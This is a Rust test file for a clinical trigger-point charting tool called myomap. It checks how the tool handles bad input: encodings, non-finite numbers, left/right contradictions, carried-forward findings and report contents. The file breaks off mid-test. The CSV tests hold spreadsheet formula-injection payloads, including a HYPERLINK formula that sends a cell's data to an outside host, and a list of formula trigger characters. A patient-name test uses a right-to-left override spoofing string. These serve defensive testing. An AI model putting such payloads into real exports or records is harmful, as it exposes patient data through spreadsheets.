//! Every boundary of the record (issue #17): what comes in from editors, other workstations
//! and sync tools, and what goes out to spreadsheets and patients. Each kind of bad input is
//! tried through the library and through the command line, and the right value asserted.

mod common;

use std::path::{Path, PathBuf};

use common::{myomap, path_str, stdout};
use myomap::storage;

/// The demo library under `dir` and the desk worker's first visit.
fn demo_visit(dir: &Path) -> (PathBuf, PathBuf) {
    let library = common::demo_library(dir);
    let visit = common::demo_sessions(&library, "101")
        .into_iter()
        .next()
        .expect("a visit");
    (library, visit)
}

/// Replaces the `nth` (0-based) occurrence of `from` in the file with `to` and returns the
/// 1-based line it is on.
fn replace_nth(path: &Path, from: &str, to: &str, nth: usize) -> usize {
    let text = std::fs::read_to_string(path).expect("read");
    let (offset, _) = text
        .match_indices(from)
        .nth(nth)
        .expect("the text is there");
    let line = text[..offset].matches('\n').count() + 1;
    let changed = format!("{}{to}{}", &text[..offset], &text[offset + from.len()..]);
    std::fs::write(path, changed).expect("write");
    line
}

/// `myomap check PATH`: its exit code and output.
fn check(path: &Path) -> (i32, String) {
    let output = myomap(&["check", path_str(path)]);
    let text = format!("{}{}", stdout(&output), common::stderr(&output));
    (output.status.code().unwrap_or(-1), text)
}

// ---- 1. Byte-order marks and encodings ---------------------------------------------------

#[test]
fn a_utf8_byte_order_mark_is_read_by_every_reader_and_command() {
    let dir = tempfile::tempdir().expect("temp dir");
    let (library, visit) = demo_visit(dir.path());
    let plain = storage::load_session(&visit).expect("loads");
    let mut bytes = b"\xEF\xBB\xBF".to_vec();
    bytes.extend(std::fs::read(&visit).expect("read"));
    std::fs::write(&visit, &bytes).expect("write");
    let patient_file = visit
        .parent()
        .and_then(Path::parent)
        .expect("patient folder")
        .join("patient.ron");
    let mut patient = b"\xEF\xBB\xBF".to_vec();
    patient.extend(std::fs::read(&patient_file).expect("read"));
    std::fs::write(&patient_file, patient).expect("write");

    assert_eq!(
        storage::load_session(&visit).expect("loads with a BOM"),
        plain
    );
    let (code, out) = check(&library);
    assert_eq!(code, 0, "{out}");
    for args in [
        vec!["render", path_str(&visit), "--view", "posterior"],
        vec!["report", path_str(&visit)],
        vec!["refer", path_str(&visit)],
    ] {
        let out = dir.path().join(if args[0] == "render" {
            "a.png"
        } else {
            "a.pdf"
        });
        let mut args = args.clone();
        if args[0] != "refer" {
            args.extend(["-o", path_str(&out)]);
        }
        let output = myomap(&args);
        assert!(
            output.status.success(),
            "{args:?}: {}",
            common::stderr(&output)
        );
    }
    let csv = dir.path().join("log.csv");
    let patient_dir = patient_file.parent().expect("patient folder");
    let output = myomap(&["export-csv", path_str(patient_dir), "-o", path_str(&csv)]);
    assert!(output.status.success(), "{}", common::stderr(&output));
    assert!(
        !common::stderr(&output).contains("skipped"),
        "{}",
        common::stderr(&output)
    );
    let log = std::fs::read_to_string(&csv).expect("csv");
    let visit_date = plain.date().to_string();
    assert!(log.contains(&visit_date), "the BOM visit is in the log");
}

#[test]
fn other_encodings_are_refused_in_one_line_that_says_what_myomap_reads() {
    let dir = tempfile::tempdir().expect("temp dir");
    let (_, visit) = demo_visit(dir.path());
    let text = std::fs::read_to_string(&visit).expect("read");

    let mut utf16 = vec![0xFF, 0xFE];
    utf16.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    std::fs::write(&visit, &utf16).expect("write");
    let (code, out) = check(&visit);
    assert_eq!(code, 1);
    assert!(
        out.contains(&format!(
            "{}: the file is UTF-16 text; myomap reads UTF-8 text (with or without a byte-order mark): save it as UTF-8",
            visit.display()
        )),
        "{out}"
    );

    // Windows-1252: "Zoë" written as one byte for the ë.
    let legacy = text.replace("clinician: \"", "clinician: \"Zo\u{00EB} ");
    let mut bytes = Vec::new();
    for c in legacy.chars() {
        bytes.push(u8::try_from(u32::from(c)).unwrap_or(b'?'));
    }
    std::fs::write(&visit, &bytes).expect("write");
    let (code, out) = check(&visit);
    assert_eq!(code, 1);
    assert!(
        out.contains("is not UTF-8 text here (a legacy code page such as Windows-1252?)"),
        "{out}"
    );
    assert_eq!(
        out.lines().filter(|l| l.contains("UTF-8")).count(),
        1,
        "{out}"
    );
}

#[test]
fn no_message_names_an_internal_type() {
    let dir = tempfile::tempdir().expect("temp dir");
    let (_, visit) = demo_visit(dir.path());
    let original = std::fs::read_to_string(&visit).expect("read");
    let damaged = [
        ("(\n", "Visit(\n"),
        ("side: Right", "side: Rigth"),
        ("side: Right", "sied: Right"),
        ("side: Right,\n", ""),
        ("taut_band: ", "taut_band: (), taut_band2: "),
        ("notes: ", "notes: 3, notes2: "),
    ];
    let internal = [
        "VersionProbe",
        "Session",
        "TriggerPoint",
        "struct",
        "enum ",
        "Side`",
        "Finding",
    ];
    for (from, to) in damaged {
        let text = original.replacen(from, to, 1);
        std::fs::write(&visit, &text).expect("write");
        let (code, out) = check(&visit);
        assert_eq!(code, 1, "{from} → {to}: {out}");
        let message = out
            .lines()
            .find(|l| l.contains(&*visit.to_string_lossy()))
            .expect("a problem line");
        for name in internal {
            let after_path = &message[visit.to_string_lossy().len()..];
            assert!(
                !after_path.contains(name),
                "{from} → {to}: names {name}: {message}"
            );
        }
    }
    std::fs::write(&visit, original.replacen("side: Right", "side: Rigth", 1)).expect("write");
    let (_, out) = check(&visit);
    assert!(
        out.contains("`Rigth` is not a value myomap knows here; it takes one of `Left`, `Right`"),
        "{out}"
    );
}

// ---- 2. Numbers that are not numbers ------------------------------------------------------

#[test]
fn nan_infinities_and_values_out_of_range_are_refused_with_field_range_and_place() {
    let dir = tempfile::tempdir().expect("temp dir");
    let (_, visit) = demo_visit(dir.path());
    let original = std::fs::read_to_string(&visit).expect("read");
    let cases = [
        (
            "pressure_pain_threshold: Some(1.6)",
            "pressure_pain_threshold: Some(NaN)",
            "pressure_pain_threshold is not a finite number; myomap takes 0–20 kg/cm² there",
        ),
        (
            "pressure_pain_threshold: Some(1.6)",
            "pressure_pain_threshold: Some(-inf)",
            "pressure_pain_threshold is not a finite number; myomap takes 0–20 kg/cm² there",
        ),
        (
            "retention_min: None",
            "retention_min: Some(1e39)",
            "retention_min is not a finite number; myomap takes 0–120 min there",
        ),
        (
            "retention_min: None",
            "retention_min: Some(900.0)",
            "retention_min is 900, outside the range myomap takes there (0–120 min)",
        ),
        (
            "pain_before: Some(",
            "pain_before: Some(1",
            "pain_before is 17, outside the range myomap takes there (0–10)",
        ),
        (
            "at: (135.0, 312.0)",
            "at: (135.0, inf)",
            "at is not a finite number; myomap takes -20000–20000 there",
        ),
        (
            "diameter_mm: 0.",
            "diameter_mm: 4.",
            "outside the range myomap takes there (0.1–0.5 mm)",
        ),
        (
            "twitch_count: Some(4)",
            "twitch_count: Some(5000)",
            "twitch_count is 5000, outside the range myomap takes there (0–1000)",
        ),
    ];
    for (from, to, message) in cases {
        let line = {
            std::fs::write(&visit, &original).expect("write");
            replace_nth(&visit, from, to, 0)
        };
        let (code, out) = check(&visit);
        assert_eq!(code, 1, "{to}: {out}");
        let prefix = format!("{}:{line}:", visit.display());
        let found = out
            .lines()
            .find(|l| l.contains(message))
            .unwrap_or_else(|| panic!("{to}: no \"{message}\" in\n{out}"));
        assert!(
            found.starts_with(&prefix),
            "{to}: not at line {line}: {found}"
        );
        for word in ["NaN", "inf ", "inf)", "-inf"] {
            assert!(!found.contains(word), "{to}: prints {word}: {found}");
        }
        // The app and every command refuse it the same way: the one loader.
        let error = storage::load_session(&visit).expect_err("refused");
        assert!(error.to_string().contains(message), "{error}");
        let render = myomap(&[
            "render",
            path_str(&visit),
            "--view",
            "posterior",
            "-o",
            "/dev/null",
        ]);
        assert!(!render.status.success());
        assert!(
            common::stderr(&render).contains(message),
            "{}",
            common::stderr(&render)
        );
    }
}

// ---- 3. Side that contradicts the drawing --------------------------------------------------

/// The nurse's first visit, unsigned, with its quadratus lumborum and multifidus trigger
/// points (drawn on the patient's left of the posterior view) recorded as right.
fn nurse_visit_with_wrong_sides(dir: &Path) -> (PathBuf, PathBuf) {
    use myomap::model::Side;
    let library = common::demo_library(dir);
    let visit = common::demo_sessions(&library, "103")
        .into_iter()
        .next()
        .expect("a visit");
    let mut session = storage::load_session(&visit).expect("loads");
    session.signature = None;
    session.addenda.clear();
    let mut changed = 0;
    for tp in &mut session.trigger_points {
        let muscle = tp.muscle.as_ref().map(|m| m.0.as_str());
        if matches!(muscle, Some("quadratus_lumborum" | "multifidus")) && tp.side == Side::Left {
            tp.side = Side::Right;
            changed += 1;
        }
    }
    assert_eq!(changed, 2, "the demo visit has both trigger points");
    std::fs::write(&visit, storage::encode(&session).expect("encodes")).expect("write");
    (library, visit)
}

#[test]
fn check_reports_each_mark_recorded_on_the_side_opposite_to_its_drawing() {
    let dir = tempfile::tempdir().expect("temp dir");
    let (_, visit) = nurse_visit_with_wrong_sides(dir.path());
    let (code, out) = check(&visit);
    assert_eq!(code, 1, "{out}");
    let sides: Vec<&str> = out
        .lines()
        .filter(|l| l.contains("is recorded as"))
        .collect();
    assert_eq!(sides.len(), 2, "{out}");
    assert!(
        sides[0].ends_with(
            "(quadratus lumborum) is recorded as right but drawn on the patient's left of the posterior view (x -78 mm)"
        ),
        "{}",
        sides[0]
    );
    assert!(sides[1].contains("(multifidus) is recorded as right but drawn on the patient's left"));
    let text = std::fs::read_to_string(&visit).expect("read");
    let ql_line = text[..text.find("quadratus_lumborum").expect("ql")]
        .matches('\n')
        .count()
        + 1;
    let at: usize = sides[0]
        .split(':')
        .nth(1)
        .and_then(|l| l.parse().ok())
        .expect("line");
    assert!(
        at < ql_line && ql_line - at <= 4,
        "points at the mark: {at} vs {ql_line}"
    );
}

#[test]
fn the_document_never_creates_a_contradiction_and_offers_the_fix_as_one_step() {
    use myomap::document::{Document, Refusal};
    use myomap::model::{Edit, MarkKind, MarkRef, Side};

    let dir = tempfile::tempdir().expect("temp dir");
    let (_, visit) = nurse_visit_with_wrong_sides(dir.path());
    let session = storage::load_session(&visit).expect("loads: a disagreement is not damage");
    let mut doc = Document::new_unsaved(session, None, "Nurse".to_owned());
    let ql = doc
        .session()
        .trigger_points
        .iter()
        .find(|t| {
            t.muscle
                .as_ref()
                .is_some_and(|m| m.0 == "quadratus_lumborum")
        })
        .cloned()
        .expect("ql");
    assert_eq!(ql.side, Side::Right);

    // Adding a mark on the wrong side is refused.
    let mut copy = ql.clone();
    copy.id = doc.session().next_mark_id();
    let refused = doc
        .apply(Edit::AddTriggerPoint(copy), None)
        .expect_err("refused");
    assert!(matches!(
        refused,
        Refusal::SideContradicts {
            recorded: Side::Right,
            drawn: Side::Left
        }
    ));
    assert!(
        refused.to_string().contains("drawn on the patient's left"),
        "{refused}"
    );

    // The clinician's fix: every disagreement at once, one undo step.
    assert_eq!(doc.take_sides_from_drawing(), Ok(2));
    let sides = |doc: &Document| -> Vec<Side> {
        doc.session()
            .trigger_points
            .iter()
            .filter(|t| t.view.as_str() == "posterior" && t.at.x < -8.0)
            .map(|t| t.side)
            .collect()
    };
    assert!(
        sides(&doc).iter().all(|s| *s == Side::Left),
        "{:?}",
        sides(&doc)
    );
    doc.undo();
    assert_eq!(
        sides(&doc).iter().filter(|s| **s == Side::Right).count(),
        2,
        "one undo reverts the whole fix"
    );
    doc.redo();

    // Moving a mark across the midline takes the side it lands on, in the same undo step,
    // and says so.
    let _ = doc.take_notices();
    let mark = MarkRef::new(MarkKind::TriggerPoint, ql.id);
    let moved = Edit::Move {
        marks: vec![mark],
        delta: (156.0, 0.0),
    };
    doc.apply(moved, None).expect("moves");
    doc.commit_pending();
    let now = |doc: &Document| {
        doc.session()
            .trigger_points
            .iter()
            .find(|t| t.id == ql.id)
            .map(|t| (t.at.x, t.side))
            .expect("ql")
    };
    assert_eq!(now(&doc), (78.0, Side::Right));
    let notices: Vec<String> = doc
        .take_notices()
        .into_iter()
        .filter(|n| n.warning)
        .map(|n| n.text)
        .collect();
    assert_eq!(
        notices,
        vec![format!(
            "Trigger point {} (quadratus lumborum) moved across the midline: it is now the patient's right",
            ql.id
        )]
    );
    doc.undo();
    assert_eq!(now(&doc), (-78.0, Side::Left));
}

#[test]
fn the_app_shows_the_disagreement_on_opening_and_fixes_it_only_when_asked() {
    use egui_kittest::kittest::Queryable as _;
    use myomap::model::Side;

    let dir = tempfile::tempdir().expect("temp dir");
    let (library, visit) = nurse_visit_with_wrong_sides(dir.path());
    let mut harness = common::app(dir.path(), Some(library), Some(visit.clone()), Vec::new());
    harness.run_ok();
    harness.get_by_label_contains("Sides that disagree with the drawing");
    harness.get_by_label_contains(
        "(quadratus lumborum) is recorded as right but drawn on the patient's left",
    );
    let wrong = |harness: &egui_kittest::Harness<'_, myomap::app::MyomapApp>| {
        let doc = harness.state().document().expect("open");
        doc.session()
            .trigger_points
            .iter()
            .filter(|t| t.side == Side::Right && t.at.x < -8.0 && t.view.as_str() == "posterior")
            .count()
    };
    assert_eq!(
        wrong(&harness),
        2,
        "nothing changed before the clinician chose"
    );
    harness.get_by_label("Record each side as drawn").click();
    harness.run_ok();
    assert_eq!(wrong(&harness), 0);
    assert!(
        harness
            .query_by_label_contains("Sides that disagree")
            .is_none()
    );
    assert!(harness.state().document().expect("open").is_dirty());
}

// ---- 4. Links that are not what they show ---------------------------------------------------

#[test]
fn check_reports_a_zone_referred_from_a_trigger_point_that_does_not_exist() {
    let dir = tempfile::tempdir().expect("temp dir");
    let (_, visit) = demo_visit(dir.path());
    let line = replace_nth(&visit, "source: Some(", "source: Some(99", 0);
    let (code, out) = check(&visit);
    assert_eq!(code, 1, "{out}");
    let found = out
        .lines()
        .find(|l| l.contains("names trigger point #991"))
        .unwrap_or_else(|| panic!("{out}"));
    assert!(found.ends_with("which is not in this session"), "{found}");
    let at: usize = found
        .strip_prefix(&format!("{}:", visit.display()))
        .and_then(|rest| rest.split(':').next())
        .and_then(|l| l.parse().ok())
        .expect("a line");
    assert!(at <= line && line - at < 12, "at the zone: {at} vs {line}");
}

// ---- 5. Carried-forward findings signed as if examined -------------------------------------

#[test]
fn carried_forward_marks_block_signing_count_apart_and_never_persist() {
    use myomap::document::Document;
    use myomap::model::{Edit, Session, SessionId};

    let dir = tempfile::tempdir().expect("temp dir");
    let (_, visit) = demo_visit(dir.path());
    let previous = storage::load_session(&visit).expect("loads");
    let started = previous.started_at + jiff::SignedDuration::from_hours(24 * 7);
    let mut next = Session::carried_forward_from(&previous, SessionId::from_u128(77), started);
    next.clinician = previous.clinician.clone();
    let carried = next.trigger_points.len();
    assert!(carried >= 3);

    // The comparison keeps them apart: not persisting, and the earlier ones not resolved.
    let map = myomap::metrics::standard_charts();
    let c = myomap::metrics::compare(&previous, &next, map);
    assert_eq!(c.trigger_points.persisting, Vec::new());
    assert_eq!(c.trigger_points.resolved, Vec::new());
    assert_eq!(c.trigger_points.new, Vec::new());
    assert_eq!(c.trigger_points.not_reexamined.len(), carried);
    assert!(
        c.trigger_points
            .not_reexamined
            .iter()
            .all(|(a, _)| a.is_some())
    );
    assert_eq!(c.later.active_trigger_points, 0);
    assert_eq!(c.later.unconfirmed_trigger_points, carried);
    assert!(
        c.trigger_points
            .summary()
            .ends_with(&format!("{carried} carried forward and not re-examined"))
    );

    // Sign-off lists them; one deliberate action confirms them all.
    let mut doc = Document::new_unsaved(next, None, "Desk worker".to_owned());
    let blockers = doc.signing_blockers();
    let listed = blockers
        .iter()
        .find(|b| b.contains("carried forward from the last visit and not re-examined"))
        .unwrap_or_else(|| panic!("{blockers:?}"));
    assert!(
        listed.contains("Trigger point, right upper trapezius"),
        "{listed}"
    );
    let all = doc.session().unconfirmed_carried_forward();
    doc.apply(Edit::Confirm(all), None).expect("confirms");
    assert!(
        doc.signing_blockers()
            .iter()
            .all(|b| !b.contains("not re-examined")),
        "{:?}",
        doc.signing_blockers()
    );
    // The complaints came forward too, and wait for their own confirmation.
    assert!(
        doc.signing_blockers()
            .iter()
            .any(|b| b.contains("1 complaint carried forward")),
        "{:?}",
        doc.signing_blockers()
    );
    let mut complaints = doc.session().complaints.clone();
    complaints
        .iter_mut()
        .for_each(|c| c.carried_forward = false);
    doc.apply(
        Edit::Set(myomap::model::Field::Complaints(complaints)),
        None,
    )
    .expect("confirms the complaint");
    assert!(
        doc.signing_blockers()
            .iter()
            .all(|b| !b.contains("carried forward")),
        "{:?}",
        doc.signing_blockers()
    );
    let c = myomap::metrics::compare(&previous, doc.session(), map);
    assert_eq!(
        c.trigger_points.persisting.len(),
        carried,
        "examined now, and still there"
    );
    assert!(c.trigger_points.not_reexamined.is_empty());
}

#[test]
fn check_warns_of_carried_forward_marks_not_re_examined() {
    use myomap::model::{Session, SessionId};

    let dir = tempfile::tempdir().expect("temp dir");
    let (_, visit) = demo_visit(dir.path());
    let previous = storage::load_session(&visit).expect("loads");
    let started = previous.started_at + jiff::SignedDuration::from_hours(24 * 7);
    let next = Session::carried_forward_from(&previous, SessionId::from_u128(77), started);
    let expected = next.trigger_points.len() + next.referred_zones.len();
    let path = visit.with_file_name("2026-09-14-0000004d.ron");
    std::fs::write(&path, storage::encode(&next).expect("encodes")).expect("write");
    let (code, out) = check(&path);
    assert_eq!(code, 0, "a warning, not a fault: {out}");
    assert!(
        out.contains(&format!(
            "warning: {expected} marks carried forward from the last visit and not re-examined"
        )),
        "{out}"
    );
}

// ---- 6. Spreadsheet formulas in the CSV ----------------------------------------------------

#[test]
fn every_csv_cell_is_guarded_and_the_file_reads_as_utf8_in_spreadsheets() {
    use myomap::model::MuscleRef;

    let dir = tempfile::tempdir().expect("temp dir");
    let (_, visit) = demo_visit(dir.path());
    let patient_dir = visit
        .parent()
        .and_then(Path::parent)
        .expect("patient folder")
        .to_owned();
    let hyperlink = r#"=HYPERLINK("http://example.invalid/?q="&A2,"see chart")"#;
    let mut session = storage::load_session(&visit).expect("loads");
    session.signature = None;
    session.addenda.clear();
    let site = &mut session.needle_sites[0];
    site.muscle = Some(MuscleRef::new(hyperlink));
    site.view = myomap::geometry::ViewId::new("-2+3+cmd");
    site.direction = "\u{FF1D}1+1".to_owned();
    site.immediate_response = "\tcmd".to_owned();
    site.notes = "  @SUM(A1)".to_owned();
    session.clinician = "Zoë Núñez".to_owned();
    std::fs::write(&visit, storage::encode(&session).expect("encodes")).expect("write");

    let out = dir.path().join("log.csv");
    let output = myomap(&["export-csv", path_str(&patient_dir), "-o", path_str(&out)]);
    assert!(output.status.success(), "{}", common::stderr(&output));
    let bytes = std::fs::read(&out).expect("written");
    assert!(
        bytes.starts_with(b"\xEF\xBB\xBFpatient_id,"),
        "a UTF-8 BOM first"
    );
    assert!(
        bytes
            .windows("Zoë Núñez".len())
            .any(|w| w == "Zoë Núñez".as_bytes()),
        "names in UTF-8"
    );
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let headers = reader.headers().expect("headers").clone();
    let column = |name: &str| headers.iter().position(|h| h == name).expect(name);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    let row = rows
        .iter()
        .find(|r| r[column("muscle_id")].contains("HYPERLINK"))
        .expect("the site");
    assert_eq!(&row[column("muscle_id")], format!("'{hyperlink}"));
    assert_eq!(&row[column("view")], "'-2+3+cmd");
    assert_eq!(&row[column("direction")], "'\u{FF1D}1+1");
    assert_eq!(&row[column("immediate_response")], "'\tcmd");
    assert_eq!(&row[column("notes")], "'  @SUM(A1)");
    let triggers = [
        '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
    ];
    for record in &rows {
        for cell in record {
            let first = cell.trim_start_matches(' ').chars().next();
            assert!(
                !first.is_some_and(|c| triggers.contains(&c)),
                "an unguarded cell: {cell:?}"
            );
        }
    }

    // Without the mark, and for decimal-comma locales.
    let plain = dir.path().join("plain.csv");
    let output = myomap(&[
        "export-csv",
        path_str(&patient_dir),
        "-o",
        path_str(&plain),
        "--no-bom",
        "--decimal-comma",
    ]);
    assert!(output.status.success(), "{}", common::stderr(&output));
    let text = std::fs::read_to_string(&plain).expect("written");
    assert!(text.starts_with("patient_id;patient;"), "{}", &text[..40]);
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(text.as_bytes());
    let headers = reader.headers().expect("headers").clone();
    let diameter = headers
        .iter()
        .position(|h| h == "needle_diameter_mm")
        .expect("column");
    let first = reader.records().next().expect("a row").expect("row");
    assert!(
        first[diameter].starts_with("0,"),
        "a decimal comma: {}",
        &first[diameter]
    );
}

#[test]
fn the_csv_guard_follows_the_owasp_rule() {
    use myomap::export::csv::guard;
    for (cell, guarded) in [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3+cmd", "'-2+3+cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\u{FF0B}1", "'\u{FF0B}1"),
        ("\u{FF0D}1", "'\u{FF0D}1"),
        ("\u{FF20}x", "'\u{FF20}x"),
        (" =1", "' =1"),
        ("upper trapezius", "upper trapezius"),
        ("0.25", "0.25"),
        ("", ""),
        ("\u{00A0}=1", "'\u{00A0}=1"),
        ("\u{3000}=1", "'\u{3000}=1"),
        ("\u{200B}=1", "'\u{200B}=1"),
        ("\u{FEFF}=1", "'\u{FEFF}=1"),
        ("\n=1", "'\n=1"),
        ("\u{FE66}1", "'\u{FE66}1"),
        ("\u{FE62}1", "'\u{FE62}1"),
        ("\u{FE63}1", "'\u{FE63}1"),
        ("\u{FE6B}x", "'\u{FE6B}x"),
        ("\u{2212}1", "'\u{2212}1"),
    ] {
        assert_eq!(guard(cell), guarded, "{cell:?}");
    }
}

// ---- 10. A report that leaves fields out ---------------------------------------------------

#[test]
fn the_report_gives_each_needle_sites_palpation_position_and_trigger_point() {
    use myomap::model::{Palpation, PatientPosition};

    let dir = tempfile::tempdir().expect("temp dir");
    let (_, visit) = demo_visit(dir.path());
    let mut session = storage::load_session(&visit).expect("loads");
    session.signature = None;
    session.addenda.clear();
    assert!(session.needle_sites.len() >= 2);
    session.needle_sites[0].palpation = Palpation::Pincer;
    session.needle_sites[1].palpation = Palpation::RibBracketing;
    session.needle_sites[1].patient_position = Some(PatientPosition::SideLyingLeft);
    // Notes anywhere in the record: a screening note on a "no" answer, a safety warning's
    // guidance, a note on the chart.
    session
        .screening
        .answers
        .push(myomap::model::ScreeningAnswer {
            item: myomap::model::ScreeningItem::ALL[3],
            answer: myomap::model::Answer::No,
            note: "Screennotemark".to_owned(),
        });
    session.needle_sites[0]
        .warnings
        .push(myomap::model::SafetyWarning {
            kind: myomap::model::WarningKind::InZone,
            zone: "lung_apex".to_owned(),
            message: "Guidancemark".to_owned(),
            acknowledged: true,
        });
    let note_id = session.next_mark_id();
    session.text_notes.push(myomap::model::TextNote {
        id: note_id,
        view: myomap::geometry::ViewId::new("posterior"),
        at: myomap::geometry::MapPoint::new(0.0, 500.0),
        text: "Chartnotemark".to_owned(),
    });
    let treated = session.needle_sites[0]
        .trigger_point
        .expect("a treated trigger point");
    let row = session
        .trigger_points
        .iter()
        .position(|t| t.id == treated)
        .expect("in the session")
        + 1;
    std::fs::write(&visit, storage::encode(&session).expect("encodes")).expect("write");
    let out = dir.path().join("report.pdf");
    let output = myomap(&["report", path_str(&visit), "-o", path_str(&out)]);
    assert!(output.status.success(), "{}", common::stderr(&output));
    let pdf = lopdf::Document::load(&out).expect("a PDF");
    let pages: Vec<u32> = pdf.get_pages().keys().copied().collect();
    let text: String = pdf
        .extract_text(&pages)
        .expect("text")
        .chars()
        .filter(|c| !c.is_whitespace())
        .collect();
    for expected in [
        "pincergrip".to_owned(),
        "ribbracketing".to_owned(),
        PatientPosition::SideLyingLeft.label().replace(' ', ""),
        format!("triggerpoint#{row}"),
        "Screennotemark".to_owned(),
        "Safetyguidance#1:Guidancemark".to_owned(),
        "Chartnotemark(Posterior)".to_owned(),
    ] {
        assert!(text.contains(&expected), "the report gives {expected}");
    }
}

// ---- 9. File dialogs that fail in silence --------------------------------------------------

#[test]
fn without_system_dialogs_the_app_says_so_and_offers_its_own() {
    use egui_kittest::kittest::Queryable as _;

    let dir = tempfile::tempdir().expect("temp dir");
    let (library, visit) = demo_visit(dir.path());
    let paths = myomap::app::AppPaths::under(&dir.path().join("app"));
    let start = myomap::app::AppStart {
        library: Some(library.clone()),
        open: None,
    };
    // egui_file's path and file-name fields have no accessible names (the library's, not
    // ours), so the harness's accessibility check is off for this test alone.
    let mut harness = egui_kittest::Harness::builder()
        .with_size([1400.0, 900.0])
        .with_accessibility_check(false)
        .build_eframe(move |cc| {
            let dialogs = myomap::app::ScriptedDialogs::unavailable(
                "no desktop portal answered and zenity is not installed",
            );
            myomap::app::MyomapApp::new(cc, start, paths, Box::new(dialogs))
        });
    harness.run_ok();
    harness.key_press_modifiers(egui::Modifiers::COMMAND, egui::Key::O);
    harness.run_ok();
    let told = harness.state().notifications().all().iter().any(|n| {
        n.text.starts_with(
            "The system's file dialog could not be shown (no desktop portal answered and zenity is not installed), so myomap shows its own.",
        )
    });
    assert!(
        told,
        "the failure is a notification, not only a line on stderr"
    );
    harness.get_by_label_contains("Open session");

    // The in-app dialog starts in the library; the visit is typed relative to it.
    let relative = visit.strip_prefix(&library).expect("inside the library");
    let inputs: Vec<_> = harness
        .get_all_by_role(egui::accesskit::Role::TextInput)
        .collect();
    let file_name = inputs.last().expect("the file name field");
    file_name.focus();
    file_name.type_text(&relative.to_string_lossy());
    harness.run_ok();
    harness.key_press(egui::Key::Enter);
    harness.run_ok();
    harness.run_ok();
    let open = harness
        .state()
        .document()
        .and_then(|d| d.path())
        .map(Path::to_path_buf);
    assert_eq!(
        open.as_deref(),
        Some(visit.as_path()),
        "the chosen visit is open"
    );
    assert!(
        harness.query_by_label_contains("Open session").is_none(),
        "the dialog closed"
    );
}

#[test]
fn no_output_prints_nan_or_inf_even_for_visits_with_nothing_charted() {
    use myomap::model::{Session, SessionId};

    let dir = tempfile::tempdir().expect("temp dir");
    let (_, visit) = demo_visit(dir.path());
    let charted = storage::load_session(&visit).expect("loads");
    let mut paths = Vec::new();
    for (n, days) in [(91_u128, 30_i64), (92, 37)] {
        let started = charted.started_at + jiff::SignedDuration::from_hours(24 * days);
        let mut empty = Session::new(SessionId::from_u128(n), charted.patient_id, started);
        empty.clinician = charted.clinician.clone();
        let path = visit.with_file_name(format!("{}-{n:08x}.ron", started.date()));
        std::fs::write(&path, storage::encode(&empty).expect("encodes")).expect("write");
        paths.push(path);
    }
    let pdf = dir.path().join("empty.pdf");
    let outputs = [
        myomap(&["compare", path_str(&paths[0]), path_str(&paths[1])]),
        myomap(&[
            "compare",
            path_str(&paths[0]),
            path_str(&paths[1]),
            "--json",
        ]),
        myomap(&["compare", path_str(&visit), path_str(&paths[1]), "--json"]),
        myomap(&["report", path_str(&paths[1]), "-o", path_str(&pdf)]),
    ];
    // A word of its own: "NaN", "inf", "-inf", "infinity" (not "infection").
    let not_a_number = |text: &str| {
        text.split(|c: char| !c.is_alphanumeric())
            .map(str::to_lowercase)
            .find(|word| matches!(word.as_str(), "nan" | "inf" | "infinity"))
    };
    for output in &outputs {
        assert!(output.status.success(), "{}", common::stderr(output));
        let text = format!("{}{}", stdout(output), common::stderr(output));
        assert_eq!(not_a_number(&text), None, "{text}");
    }
    let pdf = lopdf::Document::load(&pdf).expect("a PDF");
    let pages: Vec<u32> = pdf.get_pages().keys().copied().collect();
    let text = pdf.extract_text(&pages).expect("text");
    assert_eq!(not_a_number(&text), None, "{text}");
}

#[test]
fn review_of_the_boundaries_other_inputs_of_the_same_kinds() {
    let dir = tempfile::tempdir().expect("temp dir");
    let (_, visit) = demo_visit(dir.path());
    let original = std::fs::read_to_string(&visit).expect("read");

    // A value is shown as written, not as its 64-bit widening.
    std::fs::write(&visit, &original).expect("write");
    replace_nth(&visit, "diameter_mm: 0.25", "diameter_mm: 0.8", 0);
    let (_, out) = check(&visit);
    assert!(
        out.contains("diameter_mm is 0.8, outside the range myomap takes there (0.1–0.5 mm)"),
        "{out}"
    );
    // A whole-number field out of bounds says what it is.
    std::fs::write(&visit, &original).expect("write");
    replace_nth(
        &visit,
        "twitch_count: Some(4)",
        "twitch_count: Some(4294967296)",
        0,
    );
    let (_, out) = check(&visit);
    assert!(
        out.contains("this whole number is out of range for the field here"),
        "{out}"
    );
    // -0.0 reads as 0.
    std::fs::write(&visit, &original).expect("write");
    replace_nth(
        &visit,
        "pressure_pain_threshold: Some(1.6)",
        "pressure_pain_threshold: Some(-0.0)",
        0,
    );
    let session = storage::load_session(&visit).expect("loads");
    let ppt = session.trigger_points[0]
        .pressure_pain_threshold
        .expect("recorded");
    assert!(ppt == 0.0 && ppt.is_sign_positive());

    // A mark far off its view.
    let mut far = storage::load_session(&visit).expect("loads");
    far.signature = None;
    far.addenda.clear();
    far.trigger_points[0].at = myomap::geometry::MapPoint::new(19_000.0, -19_000.0);
    std::fs::write(&visit, storage::encode(&far).expect("encodes")).expect("write");
    let (code, out) = check(&visit);
    assert_eq!(code, 1);
    assert!(
        out.contains("lies at (19000, -19000) mm, far outside the"),
        "{out}"
    );

    // An invisible control character in a name.
    let patient_file = visit
        .parent()
        .and_then(Path::parent)
        .expect("patient folder")
        .join("patient.ron");
    let text = std::fs::read_to_string(&patient_file).expect("read");
    let start = text.find("display_name: \"").expect("name") + "display_name: \"".len();
    let with_override = format!(
        "{}Tom\\u{{202E}}sarierreF {}",
        &text[..start],
        &text[start..]
    );
    std::fs::write(&patient_file, with_override).expect("write");
    let error = storage::load_patient(&patient_file).expect_err("refused");
    assert!(
        error
            .to_string()
            .contains("display_name contains the invisible control character U+202E"),
        "{error}"
    );
    // And the report says the patient file could not be read, instead of silently dropping it.
    let pdf = dir.path().join("r.pdf");
    std::fs::write(&visit, &original).expect("write");
    let output = myomap(&["report", path_str(&visit), "-o", path_str(&pdf)]);
    assert!(
